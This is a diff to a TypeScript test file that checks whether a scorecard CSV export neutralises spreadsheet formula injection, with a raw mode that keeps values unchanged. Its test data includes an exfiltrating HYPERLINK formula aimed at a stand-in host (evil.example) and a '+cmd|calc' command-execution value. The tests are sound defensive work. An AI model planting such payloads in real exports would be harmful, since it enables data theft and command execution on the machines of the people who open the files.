@@ -2,6 +2,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../src/core/csv';
+import { writeCsv } from '../../src/core/csv-write';
 import { formatMoment, parseMoment } from '../../src/shared/rubrics';
 import { runCli } from '../../src/host/cli';
 import type { ExportRow } from '../../src/shared/scorecards';
@@ -76,6 +77,47 @@ describe('scorecard export', () => {
     // Weights 1, 2, 1.5, 1, 1 with scores 4, 3, 3, 3, 3: mean 3.1538…, overall 53.8
     expect(first.overall).toBe('53.8');
     expect(records.slice(1).map((r) => r[header.indexOf('criterion')])).toEqual(card.template.criteria.map((c) => c.name));
+  });
+
+  it('neutralises text a spreadsheet would run as a formula, and --raw keeps it as stored', async () => {
+    const t = team();
+    const formula = '=HYPERLINK("http://evil.example/?d="&B2)';
+    t.core.people.update(t.ben.id, { name: '@SUM(1+1)' });
+    const s = t.session('discovery', '2026-11-26T13:00:00Z', '+cmd|calc');
+    const card = await call(t.core, 'scorecards:start', { sessionId: s.id, reviewerId: t.ben.id });
+    const content = fullContent(card, [4, 3]);
+    content.scores[0] = { ...content.scores[0]!, comment: formula } as (typeof content.scores)[number];
+    content.scores[1] = { ...content.scores[1]!, comment: '-2+3' } as (typeof content.scores)[number];
+    await call(t.core, 'scorecards:submit', content);
+
+    const cells = (csv: string) => {
+      const [header, first, second] = parseCsv(csv).records.map((r) => r.fields);
+      const row = (r: string[]) => Object.fromEntries(header!.map((h, i) => [h, r[i]]));
+      return [row(first!), row(second!)];
+    };
+    const safe = await call(t.core, 'scorecards:export', { format: 'csv' });
+    const [a, b] = cells(safe.content);
+    expect(a).toMatchObject({ session_title: "'+cmd|calc", reviewer: "'@SUM(1+1)", comment: `'${formula}`, score: '4' });
+    expect(b!.comment).toBe("'-2+3");
+    // Still RFC 4180: the quote inside the formula is doubled inside a quoted field.
+    expect(safe.content).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&B2)"`);
+
+    const raw = await call(t.core, 'scorecards:export', { format: 'csv', raw: true });
+    expect(cells(raw.content)[0]).toMatchObject({ session_title: '+cmd|calc', reviewer: '@SUM(1+1)', comment: formula });
+
+    const file = path.join(tempDir(), 'raw.csv');
+    const viaCli = await cli(['--data-dir', t.core.dataDir, 'scorecards', 'export', '--format', 'csv', '--raw', '--out', file]);
+    expect(viaCli.code).toBe(0);
+    expect(fs.readFileSync(file, 'utf8')).toBe(raw.content);
+    const safeCli = await cli(['--data-dir', t.core.dataDir, 'scorecards', 'export', '--format', 'csv']);
+    expect(safeCli.stdout).toContain("'@SUM(1+1)");
+    expect((await cli(['--data-dir', t.core.dataDir, 'scorecards', 'export', '--format', 'json', '--raw'])).code).toBe(2);
+  });
+
+  it('writes CSV cells the way OWASP recommends: a leading tab, CR, = + - or @ gets a quote first; numbers stay numbers', () => {
+    const csv = writeCsv(['text', 'number'], [['\tx', -1], ['\rx', 0], ['a=b', null], ['', 2.5]]);
+    expect(csv).toBe(`text,number\r\n'\tx,-1\r\n"'\rx",0\r\na=b,\r\n,2.5\r\n`);
+    expect(writeCsv(['t'], [['=1+1']], { raw: true })).toBe('t\r\n=1+1\r\n');
   });
 
   it('writes the same rows as JSON', async () => {
